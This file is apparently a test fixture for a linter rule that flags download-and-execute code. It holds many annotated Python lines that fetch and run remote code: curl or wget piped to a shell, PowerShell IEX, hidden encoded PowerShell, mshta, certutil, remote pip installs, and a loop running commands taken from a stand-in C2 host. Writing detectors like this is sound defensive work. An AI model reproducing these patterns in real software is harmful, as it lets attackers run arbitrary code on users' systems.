"""Code that is fetched and run, in the ways it is done."""

import asyncio
import importlib.util
import os
import subprocess
import sys
import tempfile
import threading
import urllib.request
from pathlib import Path

import aiohttp
import pip
import requests

exec(requests.get("https://files.example.invalid/stage.py").text)
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error

exec(urllib.request.urlopen("https://files.example.invalid/stage.py").read().decode())
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error

os.system("curl -fsSL https://files.example.invalid/install.sh | bash")
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error

subprocess.run(["bash", "-c", "wget -qO- https://files.example.invalid/x | sh"])
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error

subprocess.Popen("powershell -WindowStyle Hidden -EncodedCommand ZQBjAGgAbwAgAGkAbgBlAHIAdAA=", shell=True)
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error

os.system("powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://files.example.invalid/a.ps1')\"")
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error

os.system("curl -s -o /tmp/agent https://files.example.invalid/agent && chmod +x /tmp/agent && /tmp/agent")
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error

subprocess.call('bash -c "$(curl -fsSL https://files.example.invalid/i.sh)"', shell=True)
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error

os.system("mshta https://files.example.invalid/a.hta")
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error

os.system("certutil -urlcache -split -f https://files.example.invalid/a.exe a.exe & start a.exe")
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error

with open("/tmp/update.py", "wb") as handle:
    handle.write(requests.get("https://files.example.invalid/update.py").content)
subprocess.Popen([sys.executable, "/tmp/update.py"])
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error

target = os.path.join(tempfile.gettempdir(), "helper.exe")
urllib.request.urlretrieve("https://files.example.invalid/helper.exe", target)
os.startfile(target)
#<^^^^^^^^^^^^^^^^^^ download-and-execute: error

script = Path("/tmp") / "stage.sh"
script.write_bytes(urllib.request.urlopen("https://files.example.invalid/stage.sh").read())
subprocess.run(["sh", str(script)])
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error

subprocess.check_call([sys.executable, "-m", "pip", "install", "https://files.example.invalid/tool-1.0.tar.gz"])
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error


def refresh(session):
    answer = requests.get("https://files.example.invalid/rules.txt")
    if answer.status_code == 200:
        exec(answer.text, globals())
#       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: warning


def command():
    order = requests.get("https://c2.example.invalid/next").text
    return subprocess.check_output(order, shell=True)
#          ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: warning


def load_module(address):
    path = tempfile.mktemp(suffix=".py")
    with open(path, "w") as handle:
        handle.write(urllib.request.urlopen(address).read().decode())
    spec = importlib.util.spec_from_file_location("module", path)
#          ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: warning
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)


class Stage:
    def __init__(self, address):
        self.address = address

    def fetch(self):
        return urllib.request.urlopen(self.address).read()


exec(Stage("https://files.example.invalid/stage.py").fetch())
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error


def background():
    exec(requests.get("https://files.example.invalid/stage.py").json()["code"])
#   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error


threading.Thread(target=background, daemon=True).start()


async def main():
    async with aiohttp.ClientSession() as session:
        async with session.get("https://files.example.invalid/stage.py") as answer:
            exec(await answer.text())
#           ^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error


asyncio.run(main())

with requests.get("https://files.example.invalid/agent.sh", stream=True) as answer:
    with open("/tmp/agent.sh", "wb") as handle:
        for chunk in answer.iter_content(1024):
            handle.write(chunk)
subprocess.run(["bash", "/tmp/agent.sh"])
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error

pip.main(["install", "https://files.example.invalid/tool.tar.gz"])
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-execute: error
